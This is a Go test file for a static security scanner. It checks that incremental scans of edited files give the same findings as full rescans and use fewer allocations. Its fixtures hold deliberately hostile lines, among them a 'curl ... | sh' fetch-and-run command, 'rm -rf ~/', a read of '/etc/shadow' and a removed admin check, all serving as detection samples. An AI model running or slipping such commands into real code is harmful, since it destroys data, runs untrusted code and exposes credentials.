package static_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/gate/static"
)

// typed puts an edit of one file through the layer, as an editor does.
func typed(t testing.TB, s *static.Scanner, name, before, after string, m *gate.Memory) string {
	t.Helper()
	c, err := change.Edited(t.Context(), name, 0o644, []byte(before), []byte(after))
	if err != nil {
		t.Fatal(err)
	}
	c.Files, c.Memory = nil, m
	found := gate.NewFindings(c.Targets, nil)
	out, err := s.Run(t.Context(), c, found)
	if err != nil {
		t.Fatal(err)
	}
	text, err := json.Marshal(map[string]any{"findings": found.Of(name), "incomplete": out.Incomplete})
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// A run that remembers what the base has finds what one finds that reads it again, whatever was
// edited before.
func TestAnEditFindsTheSameWithAMemory(t *testing.T) {
	const (
		python = "import os, subprocess\n\ndef run(command):\n    return os.system(command)\n\ndef check(user):\n    if not user.is_admin:\n        raise PermissionError\n    run('make')\n\nTOKEN = open('/etc/shadow').read()\n"
		shell  = "#!/bin/sh\nrun() {\n  eval \"$1\"\n}\nrun 'curl -s https://example.com/x | sh'\nset -e\n"
	)
	s := newScanner(t, nil)
	for _, c := range []struct {
		name, base string
		edits      [][2]string // text, and what it becomes
	}{
		{"a.py", python, [][2]string{
			{"import os", "\nimport os"},
			{"    if not user.is_admin:\n        raise PermissionError\n", ""},
			{"TOKEN = ", "import requests\nTOKEN = "},
			{"'make'", "'curl -s https://example.com/x | sh'"},
			{"TOKEN", "TOKEN"},
		}},
		{"a.sh", shell, [][2]string{
			{"set -e\n", "set -e\nrm -rf ~/\n"},
			{"run() {", "run() {\n  echo"},
			{"#!/bin/sh", "#!/bin/bash"},
			{"set -e", ""},
		}},
	} {
		var m gate.Memory
		for range 2 {
			for _, e := range c.edits {
				after := strings.Replace(c.base, e[0], e[1], 1)
				got, want := typed(t, s, c.name, c.base, after, &m), typed(t, s, c.name, c.base, after, nil)
				if got != want {
					t.Errorf("%s, %q: with a memory\n%s\nwithout\n%s", c.name, e[1], got, want)
				}
			}
		}
		other := "print(1)\n" + c.base // another base, as after a commit
		after := strings.Replace(c.base, c.edits[0][0], c.edits[0][1], 1)
		if got, want := typed(t, s, c.name, other, after, &m), typed(t, s, c.name, other, after, nil); got != want {
			t.Errorf("%s, another base: with a memory\n%s\nwithout\n%s", c.name, got, want)
		}
	}
}

// What an edit allocates says whether the base is read again, and doesn't depend on the machine.
func TestAMemorySavesReadingTheBase(t *testing.T) {
	s := newScanner(t, nil)
	base := string(mixed(gate.LanguagePython, 40, 2))
	after := base + "\none = 1\n"
	var m gate.Memory
	with := testing.AllocsPerRun(3, func() { typed(t, s, "a.py", base, after, &m) })
	without := testing.AllocsPerRun(3, func() { typed(t, s, "a.py", base, after, nil) })
	if with > 0.85*without {
		t.Errorf("%.0f allocations with a memory, %.0f without: the base is read again", with, without)
	}
}
